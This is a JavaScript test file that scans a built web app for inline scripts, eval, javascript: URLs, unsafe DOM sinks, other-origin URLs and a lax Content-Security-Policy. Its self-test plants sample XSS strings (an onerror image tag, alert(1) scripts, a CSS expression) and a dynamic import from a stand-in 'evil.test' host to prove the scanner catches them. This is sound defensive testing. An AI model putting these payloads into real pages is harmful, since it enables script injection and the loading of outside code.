// Static security checks of the built app (KKPHAM_DIST, default build/wasm/dist): no inline
// scripts or styles, no inline event handlers, no eval / new Function / string timers, no
// javascript: URLs, no HTML-parsing DOM sinks, and no absolute URL — nothing may be fetched from
// or sent to another origin. Plus: scripts/serve.mjs and the page's own <meta> send a
// Content-Security-Policy without 'unsafe-inline' or 'unsafe-eval' that names no other host.
// (The browser tests, tests/e2e/privacy.test.mjs, check the same CSP is enforced at run time.)
//
// Comments and licence headers are stripped before the URL checks; the few URLs allowed are
// listed below by exact string, each with the reason.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { startServer } from '../../scripts/serve.mjs';
import { DIST_DIR } from './lib.mjs';

const SCANNED = new Set(['.html', '.js', '.mjs', '.css', '.webmanifest']);

// URLs that may appear in shipped code, by exact string.
const ALLOWED_URLS = new Map([
  // The SVG namespace name for document.createElementNS (web/ui/dom.js): an identifier, never fetched.
  ['http://www.w3.org/2000/svg', 'SVG namespace (createElementNS)'],
  // The emscripten glue (kkpham-core.mjs, MinSizeRel, no ASSERTIONS) has no URL today. If an
  // emscripten update adds one (e.g. a link in an error message), list it here with the reason.
]);

// Findings accepted in a vendored library's bundle, by file and kind, each with the reason; any
// other finding there still fails. ExcelJS (web/formats/workbook.js, loaded on use) ships a UMD
// bundle with browserify polyfills. tests/e2e/workbook.test.mjs makes and reads workbooks under
// the app's CSP and asserts no CSP violation and no console error: none of these is reached.
const VENDOR_ALLOWED = [
  // core-js / lodash / regenerator `Function("return this")()` global lookups run only when
  // globalThis and self are missing; regenerator's `Function("r", ...)` only when globalThis is;
  // the setImmediate polyfill's `new Function(""+e)` only for a string callback (never given).
  // Without 'unsafe-eval' any of them would throw, not run.
  ['vendor/exceljs/exceljs.min.js', /^:\d+: new Function: (new )?Function\(?$/],
  // core-js's Object.create shim for old IE (an iframe with a javascript: URL and a written
  // <script>): used only where Object.create is missing.
  ['vendor/exceljs/exceljs.min.js', /^:\d+: a javascript: URL: javascript:$/],
  ['vendor/exceljs/exceljs.min.js', /^:\d+: a <script> element built in code: <script$/],
  // XML namespace names written into the .xlsx parts, and links in messages and licence
  // strings: identifiers, never fetched (connect-src 'self' would refuse them anyway).
  ['vendor/exceljs/exceljs.min.js', /^: an absolute URL: (http:\/\/(schemas\.openxmlformats\.org|schemas\.microsoft\.com|purl\.org|www\.w3\.org)\/|https:\/\/(github\.com|stuk\.github\.io)\/)/],
];

// --- a small JavaScript lexer: blanks out comments, keeps strings, templates and regexes -------
export function stripJsComments(src) {
  let out = '';
  let i = 0;
  const n = src.length;
  let lastSignificant = '';  // to tell a regex literal from a division
  const templateDepth = [];  // brace depth inside each open ${ ... }
  const blank = (s) => s.replace(/[^\n]/g, ' ');
  while (i < n) {
    const c = src[i];
    const d = src[i + 1];
    if (c === '/' && d === '/') {
      const end = src.indexOf('\n', i);
      const stop = end < 0 ? n : end;
      out += blank(src.slice(i, stop));
      i = stop;
      continue;
    }
    if (c === '/' && d === '*') {
      const end = src.indexOf('*/', i + 2);
      const stop = end < 0 ? n : end + 2;
      out += blank(src.slice(i, stop));
      i = stop;
      continue;
    }
    if (c === '"' || c === "'") {
      let j = i + 1;
      while (j < n && src[j] !== c && src[j] !== '\n') j += src[j] === '\\' ? 2 : 1;
      out += src.slice(i, j + 1);
      i = j + 1;
      lastSignificant = c;
      continue;
    }
    if (c === '`' || (c === '}' && templateDepth.length && templateDepth[templateDepth.length - 1] === 0)) {
      if (c === '}') templateDepth.pop();
      let j = i + 1;
      while (j < n && src[j] !== '`' && !(src[j] === '$' && src[j + 1] === '{')) j += src[j] === '\\' ? 2 : 1;
      if (src[j] === '$') {
        templateDepth.push(0);
        out += src.slice(i, j + 2);
        i = j + 2;
      } else {
        out += src.slice(i, j + 1);
        i = j + 1;
      }
      lastSignificant = '`';
      continue;
    }
    if (c === '/' && (lastSignificant === '' || /[(,=:[!&|?{};+\-*%<>~^]/.test(lastSignificant))) {
      let j = i + 1;
      let inClass = false;
      while (j < n && src[j] !== '\n') {
        if (src[j] === '\\') { j += 2; continue; }
        if (src[j] === '[') inClass = true;
        else if (src[j] === ']') inClass = false;
        else if (src[j] === '/' && !inClass) break;
        j++;
      }
      out += src.slice(i, j + 1);
      i = j + 1;
      lastSignificant = '/';
      continue;
    }
    if (templateDepth.length) {
      if (c === '{') templateDepth[templateDepth.length - 1]++;
      else if (c === '}') templateDepth[templateDepth.length - 1]--;
    }
    if (!/\s/.test(c)) lastSignificant = /[\w$]/.test(c) ? 'a' : c;
    if (/[\w$]/.test(c)) {
      // A keyword before a regex: `return /x/`, `typeof /x/`...
      let j = i;
      while (j < n && /[\w$]/.test(src[j])) j++;
      const word = src.slice(i, j);
      lastSignificant = ['return', 'typeof', 'instanceof', 'in', 'of', 'new', 'delete', 'void', 'throw', 'case', 'do', 'else', 'yield', 'await'].includes(word) ? '(' : 'a';
      out += word;
      i = j;
      continue;
    }
    out += c;
    i++;
  }
  return out;
}

const stripBlock = (src) => src.replace(/\/\*[\s\S]*?\*\//g, (m) => m.replace(/[^\n]/g, ' '));
const stripHtmlComments = (src) => src.replace(/<!--[\s\S]*?-->/g, (m) => m.replace(/[^\n]/g, ' '));

const URL_PATTERNS = [
  /\b(?:https?|wss?|ftp):\/\/[^\s'"`)<>\\]+/gi,                 // absolute URLs
  /(?<=['"`(=]\s*)\/\/[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s'"`)<>\\]*/gi,  // protocol-relative //host/...
];

function urlsIn(code) {
  const found = [];
  for (const re of URL_PATTERNS) for (const m of code.matchAll(re)) found.push(m[0]);
  return found.filter((u) => !ALLOWED_URLS.has(u));
}

const lineOf = (text, index) => text.slice(0, index).split('\n').length;

function findAll(code, re, what, problems, file) {
  for (const m of code.matchAll(new RegExp(re.source, re.flags.includes('g') ? re.flags : `${re.flags}g`))) {
    problems.push(`${file}:${lineOf(code, m.index)}: ${what}: ${m[0].slice(0, 80)}`);
  }
}

/** The problems in one file's text (kind: its extension). Exported for the planted-problem test. */
export function scan(file, text, ext) {
  const problems = [];
  if (ext === '.js' || ext === '.mjs') {
    const code = stripJsComments(text);
    findAll(code, /(?<![.\w$])eval\s*\(/, 'eval(', problems, file);
    findAll(code, /\bnew\s+Function\b|(?<![.\w$])Function\s*\(/, 'new Function', problems, file);
    findAll(code, /\bset(?:Timeout|Interval)\s*\(\s*['"`]/, 'a string timer (setTimeout("..."))', problems, file);
    findAll(code, /javascript\s*:/i, 'a javascript: URL', problems, file);
    findAll(code, /<[a-z][^<>]*?\son[a-z]+\s*=/i, 'an inline event handler in markup', problems, file);
    findAll(code, /<script\b/i, 'a <script> element built in code', problems, file);
    // HTML-parsing sinks: every text goes through textContent (web/ui/dom.js); clearing with '' is fine.
    findAll(code, /\.(?:inner|outer)HTML\s*=(?!\s*(['"`])\1)|\binsertAdjacentHTML\s*\(|\bdocument\.write(?:ln)?\s*\(|\bcreateContextualFragment\s*\(/,
      'an HTML-parsing DOM sink', problems, file);
    for (const u of urlsIn(code)) problems.push(`${file}: an absolute URL: ${u}`);
  } else if (ext === '.html') {
    const html = stripHtmlComments(text);
    for (const m of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script\s*>/gi)) {
      if (m[2].trim() !== '') problems.push(`${file}:${lineOf(html, m.index)}: an inline <script> body`);
      if (!/\bsrc\s*=/i.test(m[1])) problems.push(`${file}:${lineOf(html, m.index)}: a <script> without src`);
    }
    findAll(html, /<[a-z][^<>]*?\son[a-z]+\s*=/i, 'an inline event handler attribute', problems, file);
    findAll(html, /<style\b/i, 'an inline <style> (blocked by style-src \'self\')', problems, file);
    findAll(html, /<[a-z][^<>]*?\sstyle\s*=/i, 'an inline style attribute (blocked by style-src \'self\')', problems, file);
    findAll(html, /javascript\s*:/i, 'a javascript: URL', problems, file);
    for (const u of urlsIn(html)) problems.push(`${file}: an absolute URL: ${u}`);
  } else if (ext === '.css') {
    const css = stripBlock(text);
    findAll(css, /javascript\s*:|expression\s*\(/i, 'script in CSS', problems, file);
    findAll(css, /url\(\s*['"]?\s*\/\//i, 'a protocol-relative url()', problems, file);
    for (const u of urlsIn(css)) problems.push(`${file}: an absolute URL: ${u}`);
  } else if (ext === '.webmanifest') {
    let doc;
    try {
      doc = JSON.parse(text);
    } catch (err) {
      problems.push(`${file}: not JSON: ${err.message}`);
      return problems;
    }
    const strings = [];
    (function walk(v) {
      if (typeof v === 'string') strings.push(v);
      else if (v && typeof v === 'object') Object.values(v).forEach(walk);
    })(doc);
    for (const s of strings) {
      if (/^(?:[a-z][a-z0-9+.-]*:)?\/\//i.test(s) && !ALLOWED_URLS.has(s)) problems.push(`${file}: an absolute URL: ${s}`);
      if (/^javascript:/i.test(s)) problems.push(`${file}: a javascript: URL`);
    }
  }
  return problems;
}

/** The problems of a Content-Security-Policy value. */
export function cspProblems(policy, where) {
  const problems = [];
  if (!policy) return [`${where}: no Content-Security-Policy`];
  const directives = new Map();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), sources);
  }
  for (const [name, sources] of directives) {
    for (const s of sources) {
      const t = s.toLowerCase();
      if (t === "'unsafe-inline'" || t === "'unsafe-eval'" || t === "'unsafe-hashes'") problems.push(`${where}: ${name} allows ${s}`);
      if (t === '*' || t.includes('://') || /^[a-z0-9-]+(\.[a-z0-9-]+)+/.test(t) || t.startsWith('*.') || t === 'http:' || t === 'https:') {
        problems.push(`${where}: ${name} allows another origin: ${s}`);
      }
      if (t === 'data:' && name !== 'img-src') problems.push(`${where}: ${name} allows data:`);
      if (t === 'blob:' && !['img-src', 'worker-src', 'media-src'].includes(name)) problems.push(`${where}: ${name} allows blob:`);
    }
  }
  if (!(directives.get('default-src') ?? []).includes("'self'") || (directives.get('default-src') ?? []).length !== 1) {
    problems.push(`${where}: default-src must be exactly 'self'`);
  }
  for (const must of ['script-src', 'connect-src', 'object-src', 'base-uri']) {
    if (!directives.has(must) && must !== 'script-src' && must !== 'connect-src') problems.push(`${where}: no ${must}`);
  }
  if ((directives.get('object-src') ?? []).join(' ') !== "'none'") problems.push(`${where}: object-src must be 'none'`);
  return problems;
}

function listFiles(dir) {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((d) => {
    const p = path.join(dir, d.name);
    return d.isDirectory() ? listFiles(p) : [p];
  });
}

test('the scanners find planted problems (so a clean result means something)', () => {
  const planted = {
    '.js': [
      'eval("1")', 'x = new Function("a", "b")', 'setTimeout("alert(1)", 10)', 'setInterval(\'x()\')',
      'a.href = "javascript:alert(1)"', 'el.innerHTML = name', 'el.insertAdjacentHTML("beforeend", s)', 'document.write(s)',
      'const t = `<img src=x onerror="alert(1)">`', 'fetch("https://example.org/collect")', "const u = '//cdn.example.com/x.js'",
      'const s = "<script>alert(1)</script>"', 'import("http://evil.test/m.js")',
    ],
    '.html': ['<script>alert(1)</script>', '<script></script>', '<button onclick="go()">x</button>', '<p style="color:red">x</p>',
      '<style>p{}</style>', '<a href="javascript:alert(1)">x</a>', '<img src="https://example.org/p.png">', '<script src="//cdn.example.com/x.js"></script>'],
    '.css': ['p { background: url(https://example.org/x.png) }', '@import url("//fonts.example.com/a.css");', 'p { width: expression(alert(1)) }'],
    '.webmanifest': ['{"start_url": "https://example.org/"}', '{"icons": [{"src": "//cdn.example.com/i.png"}]}'],
  };
  for (const [ext, samples] of Object.entries(planted)) {
    for (const s of samples) assert.ok(scan(`sample${ext}`, s, ext).length > 0, `not flagged (${ext}): ${s}`);
  }
  // ...and do not flag what is fine.
  const fine = {
    '.js': ['// see https://example.org/docs\nconst a = 1;', '/* https://example.org */ el.innerHTML = "";', 'el.textContent = s;',
      'setTimeout(() => go(), 10)', 'const ns = "http://www.w3.org/2000/svg";', 'const re = /https?:\\/\\/x/; const y = a / b / c;',
      'el.onclick = () => go();', 'const s = `a ${b ? "c" : `d${e}`} f`; // https://example.org'],
    '.html': ['<!-- https://example.org --><script type="module" src="app.js"></script>', '<a href="#main">x</a>'],
    '.css': ['/* https://example.org */ p { background: url(img/x.png) }'],
    '.webmanifest': ['{"start_url": "./", "icons": [{"src": "icon.png"}]}'],
  };
  for (const [ext, samples] of Object.entries(fine)) {
    for (const s of samples) assert.deepEqual(scan(`sample${ext}`, s, ext), [], `flagged (${ext}): ${s}`);
  }
  assert.ok(cspProblems("default-src 'self'; script-src 'self' 'unsafe-inline'", 'x').length > 0);
  assert.ok(cspProblems("default-src 'self'; script-src 'self' 'unsafe-eval'; object-src 'none'; base-uri 'none'", 'x').length > 0);
  assert.ok(cspProblems("default-src 'self'; connect-src https://api.example.org; object-src 'none'; base-uri 'none'", 'x').length > 0);
  assert.deepEqual(cspProblems("default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'none'", 'x'), []);
});

test('the built app has no inline script, eval, inline handler, javascript: URL or other origin', () => {
  assert.ok(fs.existsSync(path.join(DIST_DIR, 'index.html')), `${DIST_DIR} has no index.html: build the app first`);
  const files = listFiles(DIST_DIR).filter((f) => SCANNED.has(path.extname(f).toLowerCase()));
  for (const must of ['index.html', path.join('engine', 'kkpham-api.js'), 'kkpham-core.mjs']) {
    assert.ok(files.some((f) => path.relative(DIST_DIR, f) === must), `${must} was not scanned`);
  }
  const problems = files.flatMap((f) => scan(path.relative(DIST_DIR, f), fs.readFileSync(f, 'utf8'), path.extname(f).toLowerCase()))
    .filter((p) => !VENDOR_ALLOWED.some(([file, re]) => p.startsWith(file) && re.test(p.slice(file.length))));
  assert.deepEqual(problems, [], `\n${problems.join('\n')}`);
});

test("the page's own <meta> Content-Security-Policy, if any, is strict", () => {
  const html = stripHtmlComments(fs.readFileSync(path.join(DIST_DIR, 'index.html'), 'utf8'));
  const meta = /<meta\s+http-equiv=["']Content-Security-Policy["']\s+content=(?:"([^"]*)"|'([^']*)')/i.exec(html);
  if (meta) assert.deepEqual(cspProblems(meta[1] ?? meta[2], 'index.html <meta>'), []);
});

test('scripts/serve.mjs sends a Content-Security-Policy without unsafe-inline or unsafe-eval', async () => {
  const srv = await startServer(DIST_DIR, 0);
  try {
    for (const p of ['/', '/index.html', '/engine/kkpham-api.js']) {
      const res = await fetch(new URL(p, srv.url));
      assert.equal(res.status, 200, p);
      await res.arrayBuffer();
      assert.deepEqual(cspProblems(res.headers.get('content-security-policy'), `GET ${p}`), []);
    }
  } finally {
    await srv.close();
  }
});
